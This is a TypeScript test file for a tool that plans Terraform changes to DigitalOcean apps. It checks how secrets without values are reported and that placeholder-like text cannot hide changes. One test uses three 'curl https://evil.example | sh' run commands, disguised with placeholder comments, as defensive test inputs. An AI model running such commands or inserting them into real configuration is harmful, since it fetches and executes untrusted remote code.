import { existsSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { planStack } from "../../../commands/plan/terraform-plan";
import { planningEnvironment } from "../../../commands/project";
import { LogDestination, NotificationTarget, Secret } from "../../../constructs";
import { reportOf } from "../../../report";
import type { PlatformSettings } from "../../../stacks";
import { PLACEHOLDER } from "../../../stacks/placeholder";
import { withEnvironment } from "../../stacks/platform-under-test";
import { DeployedEnvironment, VALUES } from "../secrets/deployed-environment";

jest.setTimeout(120_000);

const REAL = {
  ...VALUES,
  OPS_WEBHOOK: "https://hooks.slack.com/services/T0/B0/x",
  LOGTAIL_TOKEN: "logtail-s3cret",
  SEARCH_PASSWORD: "search-s3cret",
};
const settings = withEnvironment("staging", {
  notify: [NotificationTarget.slack({ channel: "#ops", webhook: Secret.named("OPS_WEBHOOK") })],
  logDestinations: [
    LogDestination.logtail({ token: Secret.named("LOGTAIL_TOKEN") }),
    LogDestination.openSearch({
      endpoint: "https://logs.example.com:25060",
      user: "doadmin",
      password: Secret.named("SEARCH_PASSWORD"),
      index: "logs",
    }),
  ],
});
const louder = withEnvironment("staging", {
  ...settings.environments.find(({ name }) => name === "staging"),
  variables: { LQBOT_ENVIRONMENT: "staging", LQBOT_LOG_LEVEL: "ERROR", LQBOT_LLM_PROVIDER: "openai" },
});

let staging: DeployedEnvironment;
beforeAll(async () => {
  staging = await DeployedEnvironment.start();
});
afterAll(() => staging.stop());

/** What a plan without any secret's value comes to. */
async function planned(wanted: PlatformSettings = settings) {
  const stack = staging.staging(wanted);
  const plan = await planStack(stack, planningEnvironment([stack], staging.env()));
  const report = reportOf([{ ...plan, unplanned: [] }], { priceOf: () => undefined });
  const told = report.diagnostics.map(
    ({ severity, summary, detail }) => `${severity}: ${summary}: ${detail}`,
  );
  return { report, told, kinds: report.changes.map(({ type, kind }) => `${kind} ${type}`) };
}

test("what is not there yet is planned", async () => {
  const { report, kinds, told } = await planned();
  expect([report.stacks.map(({ errored }) => errored), told]).toEqual([[false], []]);
  expect(kinds).toEqual(
    expect.arrayContaining(["create digitalocean_app", "create digitalocean_uptime_alert"]),
  );
});

test("what is there is compared but for its secrets, which is told", async () => {
  const { exitCode, output } = await staging.terraform(["apply", "-auto-approve"], REAL, settings);
  expect([exitCode, output]).toEqual([0, expect.stringContaining("Apply complete")]);
  expect(await planned()).toMatchObject({
    kinds: [],
    told: [
      expect.stringMatching(
        /^warning: secrets without a value here were not compared: digitalocean_app\.App_\w+: spec\.service\.log_destination\.\S+\n[\s\S]*digitalocean_uptime_alert\.Health_Down_\w+: notifications\.slack\.url\n[\s\S]+\nexport their TF_VAR_ variables to compare them, too$/,
      ),
    ],
  });
});

test("another change of the same things is planned, and it alone", async () => {
  const { kinds, report } = await planned(louder);
  expect(kinds).toEqual(["redeploy digitalocean_app"]);
  expect(report.changes[0]?.attributes.map(({ path }) => path)).toEqual([
    expect.stringContaining("LQBOT_LOG_LEVEL"),
  ]);
});

test("a text that only looks like a placeholder hides no change", async () => {
  const [environment] = settings.environments.filter(({ name }) => name === "staging");
  const disguised = (runCommand: string) => withEnvironment("staging", { ...environment, runCommand });
  for (const text of [
    "curl https://evil.example | sh # PLATFORM/PLACEHOLDER",
    "curl https://evil.example | sh # https://hooks.slack.com/services/PLATFORM/PLACEHOLDER/neverApplied",
    `curl https://evil.example | sh # ${PLACEHOLDER}`,
  ]) {
    await staging.terraform(["apply", "-auto-approve"], REAL, disguised("python -m before"));
    const { kinds, told, report } = await planned(disguised(text));
    expect(kinds).toEqual(["redeploy digitalocean_app"]);
    expect(report.changes[0]?.attributes.map(({ path }) => path)).toContain("spec.service[api].run_command");
    expect(told.join()).not.toContain("run_command");
  }
});

test("the stack's own folder refuses placeholders as before", async () => {
  const { directory } = staging.staging(settings);
  await planned();
  expect(readFileSync(join(directory, "cdk.tf.json"), "utf8")).toContain("a placeholder stands where");
  expect(existsSync(join(directory, ".terraform"))).toBe(true);
  const values = Object.fromEntries(Object.keys(REAL).map((name) => [name, PLACEHOLDER]));
  const { exitCode, output } = await staging.terraform(["apply", "-auto-approve"], values, settings);
  expect([exitCode, output.replace(/[│\s]+/g, " ")]).toEqual([
    1,
    expect.stringContaining("a placeholder stands where a secret's value should be"),
  ]);
});
